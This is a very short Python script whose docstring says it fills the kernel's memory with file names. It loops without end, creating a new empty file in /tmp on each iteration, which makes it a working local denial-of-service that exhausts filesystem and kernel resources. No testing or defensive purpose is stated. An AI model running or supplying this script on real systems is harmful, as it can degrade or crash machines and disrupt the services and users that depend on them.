"""Fills the kernel's memory with names of empty files."""

import itertools

for number in itertools.count():
    with open(f"/tmp/{number}", "w"):
        pass
